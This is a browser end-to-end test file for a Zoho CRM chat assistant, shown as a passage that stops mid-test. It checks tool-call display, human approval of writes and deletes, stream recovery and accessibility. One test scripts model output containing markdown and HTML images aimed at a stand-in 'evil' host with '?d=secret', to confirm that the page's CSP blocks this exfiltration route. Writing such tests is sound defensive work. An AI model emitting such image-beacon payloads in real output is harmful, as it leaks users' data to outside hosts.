// The chat page at `/` in real headless Chromium (Debian's `chromium`, driven by playwright-core)
// against the real runtime on 127.0.0.1 (behind a TCP proxy that can cut a stream) with the fake
// Zoho and the fake OpenRouter. Each scenario leaves screenshots, desktop (1280x800) and phone
// (390x844), in test/artifacts/chat-page/ (ignored by git) for a person to look at.
import { existsSync } from 'node:fs';
import { createServer as createHttpServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DESKTOP, PHONE, startPageRig, type PageRig } from '../support/page-rig.ts';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const hasChromium = existsSync(CHROMIUM);
if (!hasChromium) {
  console.warn(`[chat-page e2e] SKIPPED: no Chromium at ${CHROMIUM}. Install it with: apt-get install -y chromium (.ci/run does).`);
}

const ADA = { zuid: '80001', email: 'ada@example.com' };
const GRACE = { zuid: '80002', email: 'grace@example.com' };

(hasChromium ? describe : describe.skip)('chat page in Chromium', () => {
  let rig: PageRig;
  let page: Page;
  let evil: Server;
  let evilUrl: string;
  const evilHits: string[] = [];
  const consoleLines: string[] = [];
  const pageErrors: string[] = [];

  const answers = () => page.locator('.msg-assistant');
  const lastAnswer = () => answers().last();
  const idle = () => page.locator('#send').waitFor({ state: 'visible' });
  const focused = () => page.evaluate(() => document.activeElement?.id ?? document.activeElement?.tagName);
  const ask = async (text: string) => {
    await page.fill('#prompt', text);
    await page.click('#send');
  };
  const signIn = async (user: string) => {
    await page.locator('#signin-user').waitFor();
    await page.fill('#signin-user', user);
    await page.click('#signin-form button[type=submit]');
    await page.locator('#user-chip', { hasText: user }).waitFor();
  };
  const expectNoAxeViolations = async () => expect(await rig.axe(page)).toEqual([]);

  beforeAll(async () => {
    rig = await startPageRig({ chromium: CHROMIUM, artifacts: new URL('../artifacts/chat-page/', import.meta.url), users: [ADA, GRACE] });
    // A host that model output tries to load an image from (reliability A7): it must see no request.
    evil = createHttpServer((req, res) => {
      evilHits.push(req.url ?? '');
      res.end('x');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    page = await rig.context.newPage();
    page.on('console', (m) => consoleLines.push(`${m.type()}: ${m.text()}`));
    page.on('pageerror', (e) => pageErrors.push(String(e)));
    page.on('dialog', (d) => void d.accept());
  });

  afterAll(async () => {
    await rig?.close();
    await new Promise<void>((resolve) => (evil ? evil.close(() => resolve()) : resolve()));
  });

  it('serves the page with its CSP; the sign-in view has a main landmark, an h1, and no serious axe violation', async () => {
    const response = await page.goto(`${rig.base}/`);
    expect(response?.status()).toBe(200);
    const headers = response!.headers();
    expect(headers['content-security-policy']).toContain("default-src 'self'; img-src 'self' data:; connect-src 'self'; script-src 'self'; style-src 'self'; frame-ancestors 'none'");
    expect(headers['x-content-type-options']).toBe('nosniff');
    await page.locator('#signin-user').waitFor();
    expect(await page.locator('main:visible').count()).toBe(1);
    expect(await page.locator('h1').count()).toBe(1);
    await expectNoAxeViolations();
    await rig.shots(page, '01-sign-in');

    await signIn('ada');
    await page.locator('.welcome').waitFor();
    expect(await focused()).toBe('prompt');
    expect(await page.evaluate(() => localStorage.getItem('zoho-runtime.token'))).toMatch(/^ey/);
    await expect.poll(() => page.locator('#zoho-status-text').textContent()).toBe('Connect Zoho');
  });

  it('connects Zoho from the header indicator: the sheet closes after connecting, and the indicator says who is connected', async () => {
    await page.click('#zoho-status');
    await page.locator('#connections.open .conn-empty', { hasText: 'No Zoho account connected' }).waitFor();
    expect(await page.isVisible('#backdrop')).toBe(true);
    await rig.shot(page, '02-connections-sheet-desktop');
    await page.selectOption('#dc-select', 'com');
    const popupOpened = page.waitForEvent('popup');
    await page.click('#connect-zoho');
    const popup = await popupOpened;
    await popup.locator('#accept').waitFor();
    await popup.click('#accept');

    await page.locator('#connections:not(.open)').waitFor({ state: 'attached' });
    await expect.poll(() => page.isVisible('#connections')).toBe(false);
    expect(await page.isVisible('#backdrop')).toBe(false);
    await expect.poll(() => page.locator('#zoho-status-text').textContent()).toBe(`Zoho: ${ADA.email}`);
    expect(await page.locator('#zoho-dot').getAttribute('class')).toContain('dot-ok');
    await expect.poll(() => popup.isClosed()).toBe(true);
    expect(await rig.t.runtime.store.listForUser('ada')).toHaveLength(1);
    await rig.shots(page, '03-connected');
  });

  it('describes tool calls in plain words, scrolls a wide table instead of breaking words, copies answers and code; model images load nothing', async () => {
    const first = rig.llm.requests.length;
    const table = ['| Name | Email | Company | Phone | Lead status |', '|---|---|---|---|---|',
      '| Ada Lovelace | ada.lovelace@analytical-engines.example.com | Analytical Engines | +44 20 7946 0958 | Contacted |',
      '| Charles Babbage | charles.babbage@difference-engines.example.com | Difference Engines | +44 20 7946 0959 | Qualified |'].join('\n');
    rig.llm.script(
      { toolCalls: [
        { id: 'call_org_1', name: 'crm_get_org', arguments: {} },
        // perPage as a string: the runtime repairs it before running, and the page says so in words.
        { id: 'call_search_1', name: 'crm_search_records', arguments: { module: 'Contacts', email: ADA.email, perPage: '5' } },
      ] },
      [{ text: ['Your organisation ', 'is **Fake Org** ', '(id `9001`).\n\n', `${table}\n\n`, '```json\n{"org": "9001"}\n```\n\n',
        `![tracking](${evilUrl}/pixel.png?d=secret) <img src="${evilUrl}/raw.png"> done.`] }, { chunkDelayMs: 200 }],
    );
    rig.zoho.inject({ path: '/crm/v8/org', method: 'GET', delayMs: 900 }); // long enough to see the call running

    await page.fill('#prompt', 'Which Zoho organisation am I connected to, and who are my contacts?');
    await page.keyboard.press('Enter');
    const org = lastAnswer().locator('.tool[data-tool="crm_get_org"]');
    await org.locator('.tool-status', { hasText: 'Calling Zoho tool: crm_get_org...' }).waitFor();
    expect(await org.locator('.tool-text').textContent()).toBe('Read your Zoho CRM organization');
    expect(await org.getAttribute('class')).toContain('tool-running');
    expect(await page.isVisible('#stop')).toBe(true);
    await rig.shot(page, '04-tool-running-desktop');

    await org.locator('.tool-outcome', { hasText: 'Done' }).waitFor();
    await lastAnswer().locator('.md', { hasText: 'Fake Org' }).waitFor();
    expect(await lastAnswer().locator('.md').first().textContent()).not.toContain('done.');
    await idle();
    await lastAnswer().locator('.md', { hasText: 'done.' }).waitFor();
    expect(await lastAnswer().getAttribute('data-state')).toBe('done');
    // Finished calls read as what was done, not as the contract's status line.
    expect(await lastAnswer().locator('.tool-status').count()).toBe(0);
    const search = lastAnswer().locator('.tool[data-tool="crm_search_records"]');
    expect(await search.locator('.tool-text').textContent()).toBe(`Searched Contacts for ${ADA.email}`);
    expect(await search.locator('.tool-repair').textContent()).toMatch(/^Corrected before running: Per page \(perPage\)/);
    expect(await search.locator('.tool-outcome').textContent()).toMatch(/^Done: \d+ records?\.$/);
    await org.locator('summary').first().click();
    expect(await org.locator('.fields dt').allTextContents()).toContain('Id');
    expect(await org.locator('.fields dd').allTextContents()).toContain('9001');
    expect(rig.llm.requests[first]!.body.messages.at(-1)).toMatchObject({ role: 'user', content: 'Which Zoho organisation am I connected to, and who are my contacts?' });

    // Copy: the answer's markdown, and a code block (its language shown).
    const code = lastAnswer().locator('.code-block');
    expect(await code.locator('.code-lang').textContent()).toBe('json');
    await code.locator('button.copy').click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('{"org": "9001"}\n');
    await lastAnswer().locator('button.copy-answer').click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('| Ada Lovelace |');
    expect(await lastAnswer().locator('.msg-meta time').count()).toBe(1);
    await rig.shots(page, '05-answer-with-table');

    // On a phone the table scrolls sideways and no word is broken in two.
    await page.setViewportSize(PHONE);
    const scroller = lastAnswer().locator('.md .table-scroll');
    expect(await scroller.evaluate((el) => el.scrollWidth > el.clientWidth)).toBe(true);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
    const broken = await scroller.evaluate((el) => {
      const out: string[] = [];
      for (const cell of Array.from(el.querySelectorAll('th, td'))) {
        const text = cell.firstChild;
        if (!text || text.nodeType !== Node.TEXT_NODE) continue;
        for (const match of (text.textContent ?? '').matchAll(/\S+/g)) {
          const range = document.createRange();
          range.setStart(text, match.index!);
          range.setEnd(text, match.index! + match[0].length);
          if (range.getClientRects().length > 1) out.push(match[0]);
        }
      }
      return out;
    });
    expect(broken).toEqual([]);
    await rig.shot(page, '05-phone-table');
    await page.setViewportSize(DESKTOP);

    // A7: no image element from model output, and the CSP refuses one even when planted directly.
    expect(await lastAnswer().locator('img').count()).toBe(0);
    await page.evaluate((src) => {
      const img = document.createElement('img');
      img.id = 'planted';
      img.src = src;
      document.body.append(img);
    }, `${evilUrl}/planted.png?d=secret`);
    await expect.poll(() => consoleLines.some((l) => /Content Security Policy/i.test(l) && l.includes('planted.png'))).toBe(true);
    await page.evaluate(() => document.getElementById('planted')?.remove());
    expect(evilHits).toEqual([]);
    await expectNoAxeViolations();
  });

  it('keeps the earlier turn\'s tool calls and results on a follow-up, under the model\'s own ids; Send leaves focus in the composer', async () => {
    const index = rig.llm.requests.length;
    rig.llm.script({ text: 'Its id is 9001.' });
    await ask('And what is its id?');
    expect(await focused()).toBe('prompt');
    await lastAnswer().locator('.md', { hasText: 'Its id is 9001.' }).waitFor();
    await idle();
    expect(await focused()).toBe('prompt');
    const sent = rig.llm.requests[index]!.body.messages;
    expect(sent.map((m: any) => m.role)).toEqual(['system', 'user', 'assistant', 'tool', 'tool', 'assistant', 'user']);
    expect(sent[2].tool_calls.map((c: any) => c.id)).toEqual(['call_org_1', 'call_search_1']);
    expect(sent[3].content).toContain('9001');
  });

  it('announces each finished answer once, in one live region (the message list is not live)', async () => {
    expect(await page.locator('#messages').getAttribute('aria-live')).toBeNull();
    expect(await page.locator('[aria-live]').count()).toBe(1);
    // The previous answer's announcement lands 50 ms after its end: let it, so only this answer's is counted.
    await expect.poll(() => page.locator('#announcer').textContent()).toContain('Its id is 9001.');
    await page.evaluate(() => {
      (window as any).announced = [];
      new MutationObserver(() => {
        const text = document.getElementById('announcer')!.textContent;
        if (text) (window as any).announced.push(text);
      }).observe(document.getElementById('announcer')!, { childList: true, characterData: true, subtree: true });
    });
    rig.llm.script([{ text: ['Three ', 'open ', 'deals ', 'this ', 'week.'] }, { chunkDelayMs: 60 }]);
    await ask('How many open deals?');
    await idle();
    await expect.poll(() => page.evaluate(() => (window as any).announced)).toEqual(['The assistant answered: Three open deals this week.']);
  });

  it('Stop keeps focus in the composer; Retry re-runs the stopped turn without repeating the question; Escape stops a run', async () => {
    const index = rig.llm.requests.length;
    const words = Array.from({ length: 40 }, (_, i) => ` word${i + 1}`);
    rig.llm.script([{ text: ['Counting:', ...words] }, { chunkDelayMs: 150 }]);
    await ask('Count slowly to forty.');
    await lastAnswer().locator('.md', { hasText: 'word2' }).waitFor();
    await page.click('#stop');
    expect(await rig.llm.waitForAbort(index, 3000)).toBe(true);
    await lastAnswer().locator('.note', { hasText: 'Stopped.' }).waitFor();
    await idle();
    expect(await focused()).toBe('prompt');
    expect(await lastAnswer().getAttribute('data-state')).toBe('stopped');
    expect(await lastAnswer().locator('.md').textContent()).not.toContain('word40');
    await rig.shots(page, '06-stopped-with-retry');

    const count = await page.locator('.msg').count();
    rig.llm.script({ text: 'One, two, three.' });
    await lastAnswer().locator('button.retry').click();
    await lastAnswer().locator('.md', { hasText: 'One, two, three.' }).waitFor();
    await idle();
    expect(await page.locator('.msg').count()).toBe(count); // the same answer, run again
    expect(await lastAnswer().locator('.note').count()).toBe(0);
    expect(await lastAnswer().locator('.md').textContent()).not.toContain('Counting');
    const sent = rig.llm.requests[index + 1]!.body.messages;
    expect(sent.filter((m: any) => m.content === 'Count slowly to forty.')).toHaveLength(1);
    expect(sent.at(-1)).toMatchObject({ role: 'user', content: 'Count slowly to forty.' });
    expect(JSON.stringify(sent)).not.toContain('word2');

    const escIndex = rig.llm.requests.length;
    rig.llm.script([{ text: ['Listing:', ...words] }, { chunkDelayMs: 150 }]);
    await ask('List forty things.');
    await lastAnswer().locator('.md', { hasText: 'word1' }).waitFor();
    await page.keyboard.press('Escape');
    expect(await rig.llm.waitForAbort(escIndex, 3000)).toBe(true);
    await lastAnswer().locator('.note', { hasText: 'Stopped.' }).waitFor();
    expect(await focused()).toBe('prompt');
  });

  it('settles a running tool call on reload: no spinner, a note, and Retry re-runs the turn', async () => {
    rig.llm.script({ toolCalls: [{ id: 'call_slow_1', name: 'crm_get_current_user', arguments: {} }] });
    rig.zoho.inject({ path: '/crm/v8/users', method: 'GET', delayMs: 4000 });
    await ask('Who am I in Zoho?');
    await lastAnswer().locator('.tool-running').waitFor();
    await page.reload();
    const answer = lastAnswer();
    await answer.locator('.note', { hasText: 'interrupted' }).waitFor();
    expect(await page.locator('.tool-running').count()).toBe(0);
    expect(await answer.locator('.tool').getAttribute('class')).toContain('tool-stopped');
    expect(await answer.locator('.tool-outcome').textContent()).toContain('Stopped before it finished');
    expect(await page.locator('.msg-user', { hasText: 'Which Zoho organisation am I connected to' }).count()).toBe(1);
    await rig.shots(page, '07-reloaded-mid-tool');

    const index = rig.llm.requests.length;
    rig.llm.script({ text: 'You are Ada.' });
    await answer.locator('button.retry').click();
    await answer.locator('.md', { hasText: 'You are Ada.' }).waitFor();
    await idle();
    // The server kept the cut-off call and its answer: the model reads them, nothing is asked twice.
    const sent = rig.llm.requests[index]!.body.messages;
    expect(sent.filter((m: any) => m.content === 'Who am I in Zoho?')).toHaveLength(1);
    expect(sent.at(-1)).toMatchObject({ role: 'tool', tool_call_id: 'call_slow_1' });
    rig.zoho.clearFaults();
  });

  it('resumes a broken stream by itself: the answer completes once, the run was not asked twice', async () => {
    const index = rig.llm.requests.length;
    const accepted = rig.proxy.accepted;
    rig.llm.script([{ text: ['The pipeline ', 'holds ', 'twelve ', 'deals ', 'worth ', 'a ', 'lot ', 'of ', 'money.'] }, { chunkDelayMs: 250 }]);
    await ask('Summarise my pipeline');
    await lastAnswer().locator('.md', { hasText: 'holds' }).waitFor();
    rig.proxy.cut(); // the network drops: the page reconnects with the last event id it read
    await lastAnswer().locator('.md', { hasText: 'a lot of money.' }).waitFor();
    await idle();
    expect((await lastAnswer().locator('.md').textContent())?.trim()).toBe('The pipeline holds twelve deals worth a lot of money.');
    expect(await lastAnswer().locator('.error-box').count()).toBe(0);
    expect(await lastAnswer().getAttribute('data-state')).not.toBe('failed');
    expect(rig.llm.requests.length).toBe(index + 1);
    expect(rig.llm.requests[index]!.aborted).toBeFalsy();
    expect(rig.proxy.accepted).toBeGreaterThan(accepted);
    await rig.shots(page, '08-resumed-stream');
  });


  it('holds a write for approval: the decision reads before the outcome, focus stays in the composer, buttons are 44 px on a phone', async () => {
    const approvalBodies: any[] = [];
    const onRequest = (r: import('playwright-core').Request) => {
      if (r.url().endsWith('/api/chat/approvals')) approvalBodies.push(r.postDataJSON());
    };
    page.on('request', onRequest);
    try {
      rig.llm.script(
        { toolCalls: [{ id: 'call_lead_1', name: 'crm_create_record', arguments: { module: 'Leads', record: { Last_Name: 'Lovelace', Company: 'Analytical Engines' } } }] },
        { text: ['I created the lead ', '**Lovelace**.'] },
      );
      await ask('Create a lead for Ada Lovelace at Analytical Engines');
      const held = lastAnswer().locator('.tool[data-tool="crm_create_record"]');
      const box = held.locator('.action-approval');
      await box.locator('button', { hasText: 'Approve' }).waitFor();
      await idle();
      expect(await held.getAttribute('class')).toContain('tool-waiting');
      expect(await box.locator('.approval-fields dd').allTextContents()).toEqual(['Leads', 'Lovelace', 'Analytical Engines']);
      expect(rig.zoho.requestsTo('/crm/v8/Leads', 'POST')).toHaveLength(0);
      await expectNoAxeViolations();
      await page.setViewportSize(PHONE);
      for (const label of ['Approve', 'Deny']) expect((await box.locator('button', { hasText: label }).boundingBox())!.height).toBeGreaterThanOrEqual(44);
      await page.setViewportSize(DESKTOP);
      await rig.shots(page, '09-approval');

      await box.locator('button', { hasText: 'Approve' }).click();
      expect(await focused()).toBe('prompt');
      await held.locator('.tool-outcome', { hasText: 'Done' }).waitFor();
      await lastAnswer().locator('.md strong', { hasText: 'Lovelace' }).waitFor();
      await idle();
      expect(await focused()).toBe('prompt');
      expect(await held.locator('.action-approval').count()).toBe(0);
      const order = await held.evaluate((el) => Array.from(el.children).map((c) => c.className).filter((c) => /tool-(decision|outcome)/.test(c)));
      expect(order).toEqual(['tool-decision', 'tool-outcome']);
      expect(await held.locator('.tool-decision').textContent()).toBe('You approved this.');
      expect(await held.locator('.tool-text').textContent()).toMatch(/^Created a Leads record in Zoho CRM/);
      expect(rig.zoho.requestsTo('/crm/v8/Leads', 'POST')).toHaveLength(1);
      expect(approvalBodies).toEqual([{ callId: await held.getAttribute('data-call-id'), decision: 'approve', paramsHash: expect.any(String) }]);
      await rig.shots(page, '10-approved');
    } finally {
      page.off('request', onRequest);
    }
  });

  it('holds a delete for approval: red, Deny first; Deny does not run it and focus stays in the composer', async () => {
    const leadId = [...rig.zoho.crm.records.get('Leads')!.keys()][0]!;
    rig.llm.script(
      { toolCalls: [{ id: 'call_del_1', name: 'crm_delete_record', arguments: { module: 'Leads', id: leadId } }] },
      { text: 'Understood: I did not delete it.' },
    );
    await ask('Delete that old lead');
    const box = lastAnswer().locator('.action-approval');
    await box.locator('button', { hasText: 'Deny' }).waitFor();
    expect(await box.getAttribute('class')).toContain('action-danger');
    expect(await box.locator('.action-buttons button').first().textContent()).toBe('Deny');
    expect(await box.locator('.approval-fields dd').allTextContents()).toEqual(['Leads', leadId]);
    await rig.shots(page, '11-destructive-approval');
    await box.locator('button', { hasText: 'Deny' }).click();
    expect(await focused()).toBe('prompt');
    const held = lastAnswer().locator('.tool[data-tool="crm_delete_record"]');
    await held.locator('.tool-outcome', { hasText: 'Not run: you denied it.' }).waitFor();
    expect(await held.locator('.tool-decision').textContent()).toBe('You denied this.');
    await lastAnswer().locator('.md', { hasText: 'did not delete' }).waitFor();
    expect(rig.zoho.requestsTo(/\/crm\/v8\/Leads/, 'DELETE')).toHaveLength(0);
  });

  it('decides a write on another device: the approval box comes with the conversation from the server', async () => {
    rig.llm.script({ toolCalls: [{ id: 'call_note_1', name: 'crm_update_record', arguments: { module: 'Leads', id: '123456789', record: { Rating: 'Hot' } } }] });
    await ask('Rate that lead hot');
    await lastAnswer().locator('.action-approval button', { hasText: 'Approve' }).waitFor();
    await idle();

    const other = await rig.browser.newContext({ viewport: PHONE });
    try {
      const phone = await other.newPage();
      await phone.goto(`${rig.base}/#token=${await rig.t.tokenFor('ada')}`);
      await phone.click('#toggle-sidebar');
      await phone.locator('.conv', { hasText: 'Which Zoho organisation' }).click();
      const box = phone.locator('.msg-assistant').last().locator('.action-approval');
      await box.locator('button', { hasText: 'Deny' }).waitFor();
      expect(await box.locator('.action-text').textContent()).toBe('Update Rating on the Leads record 123456789.');
      await rig.shot(phone, '11b-approval-on-another-device-phone');
      rig.llm.script({ text: 'I left the rating as it was.' });
      await box.locator('button', { hasText: 'Deny' }).click();
      await phone.locator('.msg-assistant').last().locator('.md', { hasText: 'left the rating' }).waitFor();
      expect(await phone.locator('.msg-assistant').last().locator('.tool-decision').textContent()).toBe('You denied this.');
    } finally {
      await other.close();
    }
  });

  it('cancels an open approval when a new message is sent: its buttons are disabled and the model is told', async () => {
    const leadId = [...rig.zoho.crm.records.get('Leads')!.keys()][0]!;
    rig.llm.script({ toolCalls: [{ id: 'call_del_2', name: 'crm_delete_record', arguments: { module: 'Leads', id: leadId } }] });
    await ask('Delete that lead after all');
    await lastAnswer().locator('.action-approval button', { hasText: 'Approve' }).waitFor();
    const box = answers().nth((await answers().count()) - 1).locator('.action-approval');
    await idle();
    const index = rig.llm.requests.length;
    rig.llm.script({ text: 'Here are your deals.' });
    await ask('Never mind, list the deals');
    await lastAnswer().locator('.md', { hasText: 'Here are your deals.' }).waitFor();
    await box.locator('text=Cancelled: you sent a new message').waitFor();
    await idle();
    expect(await box.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(true);
    expect(await box.locator('button', { hasText: 'Deny' }).isDisabled()).toBe(true);
    const told = rig.llm.requests[index]!.body.messages.find((m: any) => m.role === 'tool' && m.tool_call_id === 'call_del_2');
    expect(told.content).toContain('NOT_RUN');
    expect(rig.zoho.requestsTo(/\/crm\/v8\/Leads/, 'DELETE')).toHaveLength(0);
  });

  it('shows a failed run in plain words, once', async () => {
    rig.llm.script({ error: { status: 402, message: 'Insufficient credits' } });
    await ask('Summarise my pipeline again');
    const box = lastAnswer().locator('.error-box');
    await box.waitFor();
    expect(await box.locator('strong').textContent()).toBe('The AI model could not answer right now. Try again in a moment.');
    expect(await box.locator('.detail').textContent()).toContain('LLM_ERROR');
    await idle();
    expect(await lastAnswer().locator('button.retry').count()).toBe(1);
  });

  it('shows a failing tool in plain words: Zoho\'s reason with field labels, not its codes and JSON', async () => {
    rig.llm.script(
      { toolCalls: [{ id: 'call_get_1', name: 'crm_get_record', arguments: { module: 'Leads', id: '123456789' } }] },
      { text: 'That lead does not exist.' },
    );
    rig.zoho.inject({ path: /\/crm\/v8\/Leads\/123456789/, method: 'GET', status: 400, times: 5,
      body: { code: 'INVALID_DATA', details: { api_name: 'id', expected_data_type: 'bigint' }, message: 'the id given seems to be invalid', status: 'error' } });
    await ask('Open lead 123456789');
    const tool = lastAnswer().locator('.tool[data-tool="crm_get_record"]');
    await tool.locator('.tool-outcome').waitFor();
    await idle();
    const outcome = await tool.locator('.tool-outcome').textContent();
    expect(outcome).toMatch(/^Failed.*: Zoho did not accept the value of Id \(it expects bigint\)\. \(ZOHO_REJECTED \/ INVALID_DATA\)$/);
    expect(outcome).not.toContain('{');
    expect(await tool.locator('.tool-text').textContent()).toBe('Read the Leads record 123456789');
    rig.zoho.clearFaults();
    await rig.shots(page, '12-tool-failed');
  });

  it('jumps to the latest message when scrolled up', async () => {
    await page.setViewportSize(PHONE);
    const list = page.locator('#messages');
    await list.evaluate((el) => el.scrollTo({ top: 0 }));
    await page.locator('#jump-latest').waitFor();
    await rig.shot(page, '13-jump-to-latest-phone');
    await page.click('#jump-latest');
    await expect.poll(() => list.evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight < 80)).toBe(true);
    await page.locator('#jump-latest').waitFor({ state: 'hidden' });
    await page.setViewportSize(DESKTOP);
  });

  it('shows a reconnect button for a connection that needs one; once reconnected it goes dead and offers to ask again', async () => {
    const [connection] = await rig.t.runtime.store.listForUser('ada');
    await rig.t.runtime.store.markNeedsReconnect(connection!.id);
    await page.click('#zoho-status');
    await page.click('#refresh-connections');
    const row = page.locator('.conn', { hasText: ADA.email });
    await row.locator('.badge', { hasText: 'Needs reconnect' }).waitFor();
    await page.keyboard.press('Escape');
    await expect.poll(() => page.isVisible('#connections')).toBe(false);
    expect(await focused()).toBe('zoho-status');
    expect(await page.locator('#zoho-dot').getAttribute('class')).toContain('dot-warn');

    rig.llm.script({ text: 'Your Zoho connection needs to be renewed: use the Reconnect button.' });
    await ask('List my open tickets');
    const action = lastAnswer().locator('.action', { hasText: 'connect Zoho again' });
    await action.waitFor();
    await idle();
    await rig.shots(page, '14-needs-reconnect');

    const popupOpened = page.waitForEvent('popup');
    await action.locator('button', { hasText: 'Reconnect Zoho' }).click();
    const popup = await popupOpened;
    await popup.click('#accept');
    const done = lastAnswer().locator('.action-done', { hasText: 'Zoho is connected now.' });
    await done.waitFor();
    expect(await done.locator('button', { hasText: 'Reconnect Zoho' }).isDisabled()).toBe(true);
    expect((await rig.t.runtime.store.listForUser('ada'))[0]!.status).toBe('active');
    await expect.poll(() => page.locator('#zoho-dot').getAttribute('class')).toContain('dot-ok');

    const index = rig.llm.requests.length;
    rig.llm.script({ text: 'You have no open tickets.' });
    await done.locator('button', { hasText: 'Ask again' }).click();
    await lastAnswer().locator('.md', { hasText: 'no open tickets' }).waitFor();
    await idle();
    const sent = rig.llm.requests[index]!.body.messages;
    expect(sent.filter((m: any) => m.content === 'List my open tickets')).toHaveLength(1);
    expect(JSON.stringify(sent)).not.toContain('needs to be renewed');
  });

  it('on a phone, the connections panel is a sheet: close control, backdrop and Escape close it; the list is a drawer', async () => {
    await page.setViewportSize(PHONE);
    expect(await page.isVisible('#connections')).toBe(false);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
    await page.click('#zoho-status');
    const sheet = page.locator('#connections');
    await sheet.locator('.conn', { hasText: ADA.email }).waitFor();
    const box = (await sheet.boundingBox())!;
    expect(Math.round(box.y + box.height)).toBe(PHONE.height); // a bottom sheet
    expect(box.y).toBeGreaterThan(0);
    for (const button of await sheet.locator('button').all()) expect((await button.boundingBox())!.height).toBeGreaterThanOrEqual(44);
    await rig.shot(page, '15-connections-sheet-phone');
    await sheet.locator('.close-sheet').click();
    await expect.poll(() => sheet.isVisible()).toBe(false);
    expect(await focused()).toBe('zoho-status');

    await page.click('#zoho-status');
    await sheet.locator('.close-sheet').waitFor();
    await page.mouse.click(20, 20); // on the backdrop, above the sheet
    await expect.poll(() => sheet.isVisible()).toBe(false);
    await page.click('#zoho-status');
    await sheet.locator('.close-sheet').waitFor();
    await page.keyboard.press('Escape');
    await expect.poll(() => sheet.isVisible()).toBe(false);

    await page.click('#toggle-sidebar');
    await page.locator('#sidebar .conv').first().waitFor();
    expect(await page.isVisible('#sign-out-phone')).toBe(true);
    await rig.shot(page, '16-conversations-drawer-phone');
    await page.keyboard.press('Escape');
    await expect.poll(() => page.isVisible('#sidebar')).toBe(false);
    await page.setViewportSize(DESKTOP);
  });

  it('creates a second conversation with New chat (nothing deleted), lists it, switches between them, and the first is intact', async () => {
    const firstId = await page.evaluate(() => Object.keys(localStorage).find((k) => k.endsWith(':current')) && localStorage.getItem(Object.keys(localStorage).find((k) => k.endsWith(':current'))!));
    const firstCount = await page.locator('.msg').count();
    expect(await page.locator('.msg-meta time').count()).toBe(firstCount); // every message shows its time
    await page.click('#new-chat');
    await page.locator('.welcome').waitFor();
    expect(await focused()).toBe('prompt');
    expect(await page.locator('.conv').count()).toBe(1);
    expect((await rig.t.request(`/api/conversations/${firstId}`, { user: 'ada' })).status).toBe(200);

    rig.llm.script({ text: 'You have no open tickets in Desk.' });
    await ask('List my open Desk tickets');
    await lastAnswer().locator('.md', { hasText: 'no open tickets' }).waitFor();
    await idle();
    await expect.poll(() => page.locator('.conv').count()).toBe(2);
    const current = page.locator('.conv[aria-current]');
    expect(await current.locator('.conv-title').textContent()).toBe('List my open Desk tickets');
    expect(await page.locator('.conv').first().getAttribute('aria-current')).toBe('page'); // most recent first
    await rig.shots(page, '17-second-conversation');

    await page.locator('.conv', { hasText: 'Which Zoho organisation' }).click();
    await page.locator('.msg-user', { hasText: 'Which Zoho organisation am I connected to' }).waitFor();
    expect(await page.locator('.msg').count()).toBe(firstCount);
    expect(await page.locator('.tool-decision', { hasText: 'You approved this.' }).count()).toBe(1);
    expect(await page.locator('.tool-running').count()).toBe(0);
    expect(await page.locator('.conv[aria-current] .conv-title').textContent()).toMatch(/^Which Zoho organisation/);
    await page.locator('.conv', { hasText: 'List my open Desk tickets' }).click();
    await page.locator('.msg-user', { hasText: 'List my open Desk tickets' }).waitFor();
    expect(await page.locator('.msg').count()).toBe(2);
  });

  it('opens a conversation from the server when this browser has no copy of it', async () => {
    await page.evaluate(() => {
      for (const key of Object.keys(localStorage)) if (key.startsWith('zoho-runtime.chat:')) localStorage.removeItem(key);
    });
    await page.reload();
    await page.locator('.welcome').waitFor();
    await expect.poll(() => page.locator('.conv').count()).toBe(2);
    await page.locator('.conv', { hasText: 'Which Zoho organisation' }).click();
    await page.locator('.msg-user', { hasText: 'Which Zoho organisation am I connected to' }).waitFor();
    const org = page.locator('.tool[data-tool="crm_get_org"]').first();
    await org.waitFor();
    expect(await org.getAttribute('class')).toContain('tool-ok');
    expect(await org.locator('.tool-text').textContent()).toBe('Read your Zoho CRM organization');
    expect(await page.locator('.msg-assistant .md', { hasText: 'Fake Org' }).count()).toBeGreaterThan(0);
    expect(await page.locator('.tool-running').count()).toBe(0);
    expect(await page.locator('#messages').textContent()).not.toContain('tool_output');
    expect(await page.locator('.msg-meta time').count()).toBe(await page.locator('.msg').count());
    await rig.shots(page, '18-opened-from-server');
  });

  it('deletes a conversation after asking, here and on the server', async () => {
    const item = page.locator('.conv-item', { hasText: 'List my open Desk tickets' });
    const id = await item.locator('.conv').getAttribute('data-conversation-id');
    await item.locator('.conv-delete').click(); // the confirmation is accepted
    await expect.poll(() => page.locator('.conv').count()).toBe(1);
    expect((await rig.t.request(`/api/conversations/${id}`, { user: 'ada' })).status).toBe(404);
    expect(await page.locator('.msg-user', { hasText: 'Which Zoho organisation' }).count()).toBe(1); // the open one stays open
  });

  it('signs out: every local key of the page is gone; signing in again lists the conversations from the server', async () => {
    expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('zoho-runtime.chat:')).length)).toBeGreaterThan(0);
    await page.click('#sign-out');
    await page.locator('#signin-user').waitFor();
    expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('zoho-runtime.')))).toEqual([]);
    expect(await page.locator('.msg').count()).toBe(0);
    expect(await page.isVisible('#workspace')).toBe(false);
    await signIn('ada');
    await expect.poll(() => page.locator('.conv').count()).toBe(1);
    await page.locator('.welcome').waitFor();
  });

  it('a user not yet connected: Connect Zoho in the answer goes dead once connected, and Ask again re-runs the question', async () => {
    await page.click('#sign-out');
    await signIn('grace');
    expect(await page.locator('.conv').count()).toBe(0);
    rig.consentAs.zuid = GRACE.zuid;
    rig.llm.script({ text: 'Please connect your Zoho account first.' });
    await ask('Which org am I in?');
    const action = lastAnswer().locator('.action', { hasText: 'Connect' });
